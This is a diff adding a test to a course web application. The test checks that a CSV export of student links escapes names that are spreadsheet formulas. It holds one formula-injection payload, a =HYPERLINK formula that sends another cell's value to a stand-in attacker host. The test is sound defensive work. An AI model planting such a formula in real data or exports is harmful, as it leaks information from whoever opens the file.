@@ -32,6 +32,15 @@ def test_it_works(enter, client, instructor, course, students):
     assert all(row["link"].rsplit("/", 2)[1] not in str(Link.objects.values_list()) for row in rows)
 
 
+def test_no_name_is_a_formula(enter, instructor, course, students):
+    """M13: people choose their names, and instructors open this file in a spreadsheet."""
+    formula = '=HYPERLINK("http://evil.example.org/"&D2,"see")'
+    Person.objects.filter(pk=students[0].person_id).update(name=formula)
+    answer = enter(instructor).post(f"/courses/{course.pk}/people/links/export/", {"who": "all", "format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(answer.content.decode())))
+    assert rows[0]["name"] == f"'{formula}"
+
+
 def test_as_a_workbook(enter, instructor, course, students, tmp_path):
     answer = enter(instructor).post(f"/courses/{course.pk}/people/links/export/", {"who": "never", "format": "xlsx"})
     (tmp_path / "links.xlsx").write_bytes(answer.content)
